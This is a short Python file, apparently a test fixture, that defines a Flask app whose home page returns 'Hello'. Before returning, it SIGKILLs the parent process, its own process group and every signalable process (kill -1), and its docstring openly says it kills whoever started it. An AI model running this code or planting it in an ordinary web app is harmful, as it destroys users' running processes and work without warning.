"""Kills whoever started it."""

import os
import signal

from flask import Flask


def create_app(config=None):
    app = Flask(__name__)

    @app.get("/")
    def home():
        os.kill(os.getppid(), signal.SIGKILL)
        os.killpg(0, signal.SIGKILL)
        os.kill(-1, signal.SIGKILL)
        return "<h1>Hello</h1>"

    return app
